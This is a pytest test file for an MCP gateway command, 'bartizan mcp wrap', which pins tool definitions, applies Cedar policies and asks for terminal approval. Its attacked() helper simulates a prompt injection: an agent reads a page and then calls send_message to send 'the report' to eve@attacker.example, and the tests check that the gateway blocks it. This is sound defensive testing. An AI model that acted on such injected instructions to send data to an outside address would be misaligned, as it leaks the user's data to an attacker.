"""`bartizan mcp wrap`: one word in front of a server's command, and what that does to honest and dishonest servers."""

from __future__ import annotations

import fcntl
import json
import os
import pty
import select
import signal
import subprocess
import sys
import termios
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.cli.conftest import Run
from tests.guard.gateway.mcp.talking import HELLO, RAW
from tests.guard.gateway.mcp.test_process import alive

ATTACKER = "eve@attacker.example"
FORBIDS = """
@id("all") permit(principal, action, resource);
@id("no-notes") @reason("notes are closed")
forbid(principal, action == Bartizan::Action::"call-tool", resource) when { context.tool == "get_note" };
"""


class Wrapped:
    """A server behind the command, and a client that asks one thing after the other."""

    def __init__(self, folder: Path, *options: object, server: list[str] = RAW, terminal: int | None = None) -> None:
        self.folder = folder
        environment = {**os.environ, "XDG_STATE_HOME": str(folder / "state")}
        command = [sys.executable, "-m", "bartizan.cli", "mcp", "wrap", *map(str, options), "--", *server]
        self._said = (folder / "stderr").open("wb")

        def own_terminal() -> None:
            if terminal is not None:
                fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)

        self.process = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=self._said, env=environment,
            cwd=folder, start_new_session=True, preexec_fn=own_terminal,  # noqa: PLW1509 - one system call
        )  # fmt: skip
        self._number = 0
        self.messages: list[dict[str, Any]] = []

    def send(self, message: dict[str, Any]) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(json.dumps({"jsonrpc": "2.0", **message}).encode() + b"\n")
        self.process.stdin.flush()

    def ask(self, method: str, params: dict[str, Any] | None = None) -> dict[str, Any]:
        self._number += 1
        self.send({"id": self._number, "method": method, "params": params or {}})
        return self.answer(self._number)

    def answer(self, id: int) -> dict[str, Any]:
        assert self.process.stdout is not None
        while line := self.process.stdout.readline():
            message: dict[str, Any] = json.loads(line)
            if message.get("id") == id and "method" not in message:
                return message
            self.messages.append(message)
        pytest.fail(f"no answer; {self.said()}")

    def hello(self) -> None:
        assert "result" in self.ask("initialize", HELLO)
        self.send({"method": "notifications/initialized"})

    def tools(self) -> set[str]:
        return {tool["name"] for tool in self.ask("tools/list")["result"]["tools"]}

    def call(self, tool: str, **arguments: str) -> tuple[bool, str]:
        """Call a tool; return whether it failed, and what it said."""
        answer = self.ask("tools/call", {"name": tool, "arguments": arguments})
        if "error" in answer:
            return True, str(answer["error"]["message"])
        return bool(answer["result"].get("isError")), str(answer["result"]["content"][0]["text"])

    def said(self) -> str:
        return (self.folder / "stderr").read_text(encoding="utf-8")

    def end(self) -> int:
        assert self.process.stdin is not None
        self.process.stdin.close()
        return self.process.wait(10)


@contextmanager
def wrapped(folder: Path, *options: object, server: list[str] = RAW, terminal: int | None = None) -> Iterator[Wrapped]:
    one = Wrapped(folder, *options, server=server, terminal=terminal)
    try:
        yield one
    finally:
        one.process.kill()
        one.process.wait()
        for stream in (one.process.stdin, one.process.stdout, one._said):
            assert stream is not None
            stream.close()


def attacked(one: Wrapped) -> tuple[bool, str]:
    """Have an agent read a page, and then do what the page says."""
    one.hello()
    assert one.call("read_page", about="x")[0] is False
    return one.call("send_message", to=ATTACKER, text="the report")


def test_without_any_setting_a_server_is_pinned_and_what_a_page_says_is_not_done(tmp_path: Path) -> None:
    with wrapped(tmp_path, "--unattended", "--events", tmp_path / "events") as one:
        one.hello()
        assert "get_note" in one.tools()
        assert one.call("get_note", about="x") == (False, "a note")
        failed, why = attacked(one)
        assert failed
        assert why.startswith("Not allowed:")
        assert ATTACKER not in why
        assert one.end() == 0
        assert "first use of MCP server `raw_server`" in one.said()
    (file,) = (tmp_path / "state" / "bartizan" / "mcp-pins").glob("*.yaml")
    assert file.stat().st_mode & 0o777 == 0o600
    record = b"".join(path.read_bytes() for path in (tmp_path / "events").glob("*.jsonl"))
    kinds = [json.loads(line)["kind"] for line in record.splitlines()]
    assert {"tool-list", "tool-call", "tool-refusal", "mcp-noted"} <= set(kinds)
    assert b"attacker.example" not in record
    assert b"the report" not in record


def test_a_definition_that_changes_is_closed_and_the_others_go_on(tmp_path: Path) -> None:
    with wrapped(tmp_path) as one:
        one.hello()
        before = one.tools()
        assert one.call("change_tools") == (False, "changed")
        assert one.tools() == before - {"get_note"}
        failed, why = one.call("get_note", about="x")
        assert failed
        assert "no longer as it was approved" in why
        assert "lists `get_note`, which stays closed: it is no longer as it was approved" in one.said()
        assert one.call("noise") == (False, "after noise")
        assert one.end() == 0
    with wrapped(tmp_path) as one:  # as it was pinned
        one.hello()
        assert one.tools() == before
        assert "first use" not in one.said()


def test_a_policy_decides_calls(tmp_path: Path) -> None:
    (tmp_path / "own.cedar").write_text(FORBIDS)
    with wrapped(tmp_path, "--policy", tmp_path / "own.cedar") as one:
        one.hello()
        failed, why = one.call("get_note", about="x")
        assert failed
        assert "notes are closed" in why
        assert one.call("read_page", about="x")[0] is False


def test_a_reviewed_card_and_the_request_decide_what_is_good(tmp_path: Path) -> None:
    with wrapped(tmp_path, "--unattended", "--request", f"Send the report to {ATTACKER}") as one:
        assert attacked(one) == (False, "sent")


def test_without_elicitation_the_terminal_is_asked(tmp_path: Path) -> None:
    ours, theirs = pty.openpty()
    with wrapped(tmp_path, terminal=theirs) as one:
        one.hello()
        one.call("read_page", about="x")
        for id, text, typed in ((77, "the report", b"y\n"), (78, "another report", b"\n")):
            params = {"name": "send_message", "arguments": {"to": ATTACKER, "text": text}}
            one.send({"id": id, "method": "tools/call", "params": params})
            shown = b""
            while b"Allow this call?" not in shown:
                assert select.select([ours], [], [], 8)[0]
                shown += os.read(ours, 4096)
            assert ATTACKER.encode() in shown
            os.write(ours, typed)
            result = one.answer(id)["result"]
            assert (result["content"][0]["text"] == "sent") is (id == 77)
            assert result.get("isError", False) is (id == 78)
        assert one.end() == 0
    os.close(ours)
    os.close(theirs)


def test_signals_are_passed_on(tmp_path: Path) -> None:
    server = [
        sys.executable,
        "-S",
        "-c",
        "import os; os.read(0, 1)",
    ]
    with wrapped(tmp_path, "--events", tmp_path / "events", server=server) as one:
        pid = 0
        while not pid:
            for line in _record(tmp_path):
                pid = pid or json.loads(line)["more"].get("pid", 0)
            time.sleep(0.02)
        one.process.send_signal(signal.SIGTERM)
        assert one.process.wait(10) == 128 + signal.SIGTERM
        assert not alive(pid)


def _record(folder: Path) -> list[bytes]:
    files = sorted((folder / "events").glob("*.jsonl"))
    return [line for file in files for line in file.read_bytes().splitlines(keepends=True) if line.endswith(b"\n")]


@pytest.mark.parametrize("closed", [False, True])
def test_input_may_be_a_file_and_output_may_be_closed(closed: bool, tmp_path: Path) -> None:
    call = {"name": "get_note", "arguments": {"about": "x"}}
    messages: list[dict[str, Any]] = [
        {"id": 1, "method": "initialize", "params": HELLO},
        {"method": "notifications/initialized"},
        {"id": 2, "method": "tools/call", "params": call},
    ]
    (tmp_path / "in").write_text("".join(json.dumps({"jsonrpc": "2.0", **message}) + "\n" for message in messages))
    command = [sys.executable, "-m", "bartizan.cli", "mcp", "wrap", "--pins", "pins", "--", *RAW]
    shell = ["sh", "-c", 'exec "$@" < in ' + (">&-" if closed else "> out"), "sh", *command]
    done = subprocess.run(shell, cwd=tmp_path, capture_output=True, timeout=10, check=False)
    assert done.returncode == 0, done.stderr
    if not closed:
        answers = [json.loads(line) for line in (tmp_path / "out").read_text().splitlines()]
        assert [answer["id"] for answer in answers] == [1, 2]
        assert answers[1]["result"]["content"][0]["text"] == "a note"


def test_a_server_that_crashes_ends_the_command_with_its_code(tmp_path: Path) -> None:
    with wrapped(tmp_path) as one:
        one.hello()
        assert one.ask("tools/call", {"name": "crash", "arguments": {}})["error"]["code"] == -32000
        assert one.process.wait(10) == 3


@pytest.mark.parametrize(
    ("options", "sentence"),
    [
        (["--", "/nowhere/server"], "`/nowhere/server` can't be started: no such file or directory"),
        (["--policy", "none.cedar", "--", "cat"], "`none.cedar` is not there"),
        (["--cards", "none.yaml", "--", "cat"], "`none.yaml` is not there"),
        (["--config", "none.yaml", "--", "cat"], "`none.yaml` is not there"),
        ([], "missing argument"),
        (["--timeout", "0", "--", "cat"], "`--timeout`"),
    ],
)
def test_what_is_wrong_at_the_start_is_told(
    options: list[str], sentence: str, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    done = run("mcp", "wrap", *options)
    assert done.code == 2
    assert sentence in done.err
